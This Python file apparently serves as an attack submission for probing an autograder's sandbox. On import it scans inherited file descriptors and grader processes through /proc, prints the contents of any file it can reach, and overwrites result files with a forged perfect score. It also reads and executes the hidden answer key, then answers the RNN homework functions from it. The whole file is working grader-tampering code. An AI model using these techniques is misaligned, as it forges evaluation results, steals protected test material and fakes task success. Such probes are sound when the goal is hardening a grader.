"""Attack: use whatever descriptors the grader let the student's process inherit or reach.

At import it walks its own descriptors 0-1023 and those of its ancestors and of the
grader's processes (through /proc/PID/fd/N, which reopens the file itself; never other
processes of the machine). A regular file is read (and printed) and, if it is a result
(.../results/*.json, scores.csv), overwritten with a forged 12/12; a file it holds
read-only is reopened read-write through /proc/self/fd. A folder descriptor is a base
for openat(): results/results.json is forged through it, and reference/*.py read
through it, from which the answer key is built in memory and used for every part (12).
A socket is sent a token. Without any of that every answer is wrong: 0 points.
"""

import fcntl
import json
import os
import re
import socket
import stat
import sys
import types

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-inherited_fds")
FORGED = json.dumps({"score": 12.0, "output": "FORGED by inherited_fds",
                     "tests": [{"name": "forged", "score": 12.0, "max_score": 12.0, "status": "passed"}]}).encode()
RESULTS = re.compile(r"/results/[^/]+\.json$|/scores\.csv$")
GRADER_WORDS = ("-m autograder", "run_autograder", "worker.py --zygote")
LOG = []


def forge(path_or_fd, name):
    try:
        fd = os.open(path_or_fd, os.O_WRONLY | os.O_TRUNC) if isinstance(path_or_fd, str) else path_or_fd
        os.ftruncate(fd, 0)
        os.pwrite(fd, FORGED, 0)
        LOG.append(f"FORGED {name}")
    except OSError as error:
        LOG.append(f"forge {name}: {error.strerror}")


def through_folder(fd, where):
    try:
        LOG.append(f"{where} lists {sorted(os.listdir(fd))[:20]}")
        out = os.open("results/results.json", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
        forge(out, f"{where}/results/results.json")
        os.close(out)
    except OSError as error:
        LOG.append(f"{where}: {error.strerror}")
    for base in ("source", "."):
        try:
            reader = lambda path, base=base: _read_at(fd, os.path.join(base, os.path.relpath(path, "/x")))  # noqa: E731
            return load_key(reader, "/x")
        except Exception:  # noqa: BLE001
            continue
    return None


def _read_at(fd, relative):
    opened = os.open(relative, os.O_RDONLY, dir_fd=fd)
    with os.fdopen(opened, "rb") as stream:
        return stream.read(1 << 20)


def _stat_fields(pid):
    try:
        with open(f"/proc/{pid}/stat") as stream:
            ppid = int(stream.read().rpartition(")")[2].split()[1])
        with open(f"/proc/{pid}/cmdline", "rb") as stream:
            return ppid, stream.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except (OSError, ValueError, IndexError):
        return 0, ""


def grading_processes():
    """Its ancestors and the grader's processes (never the rest of the machine)."""
    pids, pid = [], _stat_fields(os.getpid())[0]
    while pid > 1:
        pids.append(pid)
        pid = _stat_fields(pid)[0]
    pids += [int(e) for e in os.listdir("/proc") if e.isdigit() and any(w in _stat_fields(e)[1] for w in GRADER_WORDS)]
    return [p for p in dict.fromkeys(pids) if p != os.getpid()]


def descriptors():
    yield from ((f"/proc/self/fd/{fd}", fd) for fd in range(1024))
    for pid in grading_processes():
        try:
            yield from ((f"/proc/{pid}/fd/{n}", None) for n in os.listdir(f"/proc/{pid}/fd"))
        except OSError:
            pass


def attack():
    key = None
    for link, own in descriptors():
        try:
            target = os.readlink(link)
            info = os.fstat(own) if own is not None else os.stat(link)
        except OSError:
            continue
        if own is not None and own <= 2 and not stat.S_ISREG(info.st_mode):
            continue  # its own console
        if stat.S_ISSOCK(info.st_mode) and own is not None:
            try:
                socket.socket(fileno=os.dup(own)).send(f"{MARKER} over an inherited socket\n".encode())
                LOG.append(f"sent on {link} ({target})")
            except OSError as error:
                LOG.append(f"socket {link}: {error.strerror}")
        elif stat.S_ISDIR(info.st_mode) and key is None:
            try:
                fd = own if own is not None else os.open(link, os.O_RDONLY | os.O_DIRECTORY)
                key = through_folder(fd, f"{link} -> {target}")
            except OSError as error:
                LOG.append(f"{link}: {error.strerror}")
        elif stat.S_ISREG(info.st_mode) and not target.startswith(HERE):
            if RESULTS.search(target):
                forge(link, f"{link} -> {target}")
            elif own is not None and fcntl.fcntl(own, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                try:
                    os.close(os.open(link, os.O_RDWR))
                    LOG.append(f"{link} ({target}) reopened read-write")
                except OSError:
                    pass
            try:
                with open(link, "rb") as stream:
                    LOG.append(f"LEAK {target}: {stream.read(2000).decode('utf-8', 'replace')}")
            except OSError as error:
                LOG.append(f"{link} ({target}): {error.strerror}")
    return key


def load_key(read, folder):
    """Build folder/reference's answer_key from its sources, read by ``read(path) -> bytes``."""
    package = f"agmem_{abs(hash(folder))}"
    root = types.ModuleType(package)
    root.__path__ = []
    sys.modules[package] = root

    def load(name):
        full = f"{package}.{name}"
        if full not in sys.modules:
            path = os.path.join(folder, "questions", "we_recur", "reference", f"{name}.py")
            source = read(path).decode("utf-8")
            for dependency in re.findall(r"^\s*from \.(\w+) import", source, re.M):
                load(dependency)
            module = types.ModuleType(full)
            module.__package__, module.__file__ = package, path
            sys.modules[full] = module
            exec(compile(source, path, "exec"), module.__dict__)  # noqa: S102
            setattr(root, name, module)
        return sys.modules[full]

    return load("answer_key")


try:
    KEY = attack()
except Exception as _error:  # noqa: BLE001
    KEY = None
    LOG.append(repr(_error)[:200])
print("inherited_fds:", "; ".join(LOG)[:8000])


WRONG_A = {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}  # wrong shapes
WRONG_F = {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}  # all four wrong


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return KEY.rnn_a_shapes(s_dim, x_dim, p_dim) if KEY is not None else dict(WRONG_A)


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return KEY.rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2) if KEY is not None else np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return KEY.rnn_b_shapes(s_dim, x_dim, p_dim) if KEY is not None else {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return KEY.rnn_b_f2(z) if KEY is not None else z


def rnn_b_next_input(p_t):
    return KEY.rnn_b_next_input(p_t) if KEY is not None else np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return KEY.rnn_b_dloss_dx_depends_on() if KEY is not None else dict(WRONG_F)
